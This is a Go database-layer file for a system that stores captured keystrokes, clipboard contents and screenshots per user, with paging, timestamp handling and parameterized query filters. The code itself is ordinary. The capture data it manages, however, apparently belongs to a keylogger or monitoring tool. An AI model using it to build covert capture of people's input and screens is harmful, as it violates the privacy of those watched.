package database

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"time"
)

var (
	ErrNotFound = errors.New("record not found")
	ErrNotReady = errors.New("storage not ready")
)

// Store reads the three raw record collections. Reads return records in
// ascending timestamp order with content fields still encrypted.
type Store interface {
	// Connect attempts to open the backend once. Queries issued before a
	// successful Connect wait for it, bounded by the ready timeout.
	Connect(ctx context.Context) error
	Close() error

	KeystrokeRecords(ctx context.Context, f Filter) ([]KeystrokeRecord, error)
	ClipboardRecords(ctx context.Context, f Filter) ([]ClipboardRecord, error)
	// ScreenshotRecords lists metadata only; use Screenshot for the payload.
	ScreenshotRecords(ctx context.Context, f Filter) ([]ScreenshotRecord, error)
	Screenshot(ctx context.Context, id string) (ScreenshotRecord, error)
	DeleteScreenshot(ctx context.Context, id string) error

	Users(ctx context.Context) ([]UserActivity, error)
	// DistinctUsers lists the normalized usernames present in one collection.
	DistinctUsers(ctx context.Context, t LogType) ([]string, error)
	Counts(ctx context.Context) (Counts, error)
	KeystrokeRevision(ctx context.Context) (Revision, error)

	InsertKeystrokes(ctx context.Context, records []KeystrokeRecord) error
	InsertClipboard(ctx context.Context, records []ClipboardRecord) error
	InsertScreenshots(ctx context.Context, records []ScreenshotRecord) error
}

// readiness blocks queries until the first successful connect.
type readiness struct {
	once    sync.Once
	done    chan struct{}
	timeout time.Duration
}

func newReadiness(timeout time.Duration) *readiness {
	if timeout <= 0 {
		timeout = 10 * time.Second
	}
	return &readiness{done: make(chan struct{}), timeout: timeout}
}

func (r *readiness) markReady() {
	r.once.Do(func() { close(r.done) })
}

func (r *readiness) isReady() bool {
	select {
	case <-r.done:
		return true
	default:
		return false
	}
}

func (r *readiness) wait(ctx context.Context) error {
	select {
	case <-r.done:
		return nil
	default:
	}

	timer := time.NewTimer(r.timeout)
	defer timer.Stop()

	select {
	case <-r.done:
		return nil
	case <-timer.C:
		return ErrNotReady
	case <-ctx.Done():
		return ctx.Err()
	}
}

// pageFunc fetches one page of a collection sorted by (timestamp, id).
type pageFunc[T any] func(ctx context.Context, limit, offset int) ([]T, error)

// readAll concatenates fixed-size pages until an empty page comes back.
// Paging bounds memory per query only; callers always get the full ordered stream.
func readAll[T any](ctx context.Context, pageSize int, page pageFunc[T]) ([]T, error) {
	if pageSize <= 0 {
		pageSize = 500
	}
	all := make([]T, 0)
	for offset := 0; ; offset += pageSize {
		batch, err := page(ctx, pageSize, offset)
		if err != nil {
			return nil, err
		}
		if len(batch) == 0 {
			return all, nil
		}
		all = append(all, batch...)
	}
}

const timestampLayout = "2006-01-02T15:04:05.000Z"

// formatTimestamp renders a fixed-width UTC string so text comparison orders correctly.
func formatTimestamp(t time.Time) string {
	return t.UTC().Format(timestampLayout)
}

// parseTimestamp returns the zero time for values it cannot read.
func parseTimestamp(s string) time.Time {
	for _, layout := range []string{timestampLayout, time.RFC3339Nano, "2006-01-02 15:04:05"} {
		if t, err := time.Parse(layout, s); err == nil {
			return t.UTC()
		}
	}
	return time.Time{}
}

// filterClause renders f as a WHERE clause; tsArg converts bounds to the driver's bind type.
func filterClause(f Filter, tsArg func(time.Time) any) (string, []any) {
	var conds []string
	var args []any
	if f.User != "" {
		if f.User == UnknownUser {
			conds = append(conds, "(username = '' OR username = ?)")
		} else {
			conds = append(conds, "username = ?")
		}
		args = append(args, f.User)
	}
	if !f.Since.IsZero() {
		conds = append(conds, "timestamp >= ?")
		args = append(args, tsArg(f.Since))
	}
	if !f.Until.IsZero() {
		conds = append(conds, "timestamp <= ?")
		args = append(args, tsArg(f.Until))
	}
	if len(conds) == 0 {
		return "", nil
	}
	return " WHERE " + strings.Join(conds, " AND "), args
}

func tableFor(t LogType) (string, error) {
	switch t {
	case LogTypeKeystroke:
		return "keystrokes", nil
	case LogTypeClipboard:
		return "clipboard", nil
	case LogTypeScreenshot:
		return "screenshots", nil
	}
	return "", fmt.Errorf("unknown log type %q", t)
}

// distinctNormalized folds raw usernames through NormalizeUser and drops duplicates.
func distinctNormalized(raw []string) []string {
	seen := make(map[string]struct{}, len(raw))
	out := make([]string, 0, len(raw))
	for _, u := range raw {
		u = NormalizeUser(u)
		if _, ok := seen[u]; ok {
			continue
		}
		seen[u] = struct{}{}
		out = append(out, u)
	}
	slices.Sort(out)
	return out
}
